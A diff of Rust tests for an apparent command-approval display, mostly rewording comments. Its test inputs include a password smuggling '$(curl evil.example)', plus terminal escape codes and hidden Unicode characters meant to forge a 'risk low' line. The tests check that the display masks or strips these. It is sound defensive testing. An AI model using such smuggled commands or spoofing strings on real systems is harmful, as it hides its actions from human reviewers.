@@ -1,4 +1,4 @@
-//! What is shown, what a line means, and who owns the terminal.
+//! Tests of the card's text, the meaning of a line, and the ownership of the terminal.
 
 use std::sync::atomic::AtomicBool;
 use std::sync::{Arc, Mutex, PoisonError};
@@ -51,7 +51,7 @@ fn invariant_9_the_card_shows_what_is_there() {
     request.principal = Principal::new("ann\u{202e}");
     for text in [card(&request, NOW, ColorMode::Plain), preview(&request, NOW, ColorMode::Plain)] {
         assert!(!text.chars().any(|c| c != '\n' && is_unseen(c)), "{text:?}");
-        // A line that begins like the card's own is the card's own.
+        // A line that begins like one of the card's own lines is one.
         assert!(text.matches("\n  risk  ").count() <= 1, "{text}");
         assert!(
             text.contains(r#""a\n  risk": "low\n  risk        low \u{1b}[2J\u{202e}\u{200b}""#),
@@ -99,7 +99,7 @@ fn nothing_is_decided_by_accident() {
     assert!(!question(&request).contains("[a]"));
 }
 
-/// A terminal without a person: lines are typed by the test, through a socket where there is one.
+/// A simulated terminal: the test types the lines, through a socket where there is one.
 #[cfg(unix)]
 mod typed {
     use std::io::Write as _;
@@ -190,7 +190,7 @@ mod typed {
         let run = "mysql --password=\"aB3dE6gH$(curl evil.example)\"";
         let submitted = gate.submit(Command { run: run.to_owned() }).by("agent").await.unwrap();
         assert!(matches!(submitted, crate::Submission::Done { .. }), "{submitted:?}");
-        // Without the breaks of lines that are wider than a terminal.
+        // Removes the breaks of lines that are wider than a terminal.
         let shown = shown.lock().unwrap().replace("\n              | ", "");
         let (before, after) = shown.split_once("[u] Uncover (2 masked)").unwrap();
         assert!(before.contains("masked by its name: 8 characters") && !before.contains("curl"));
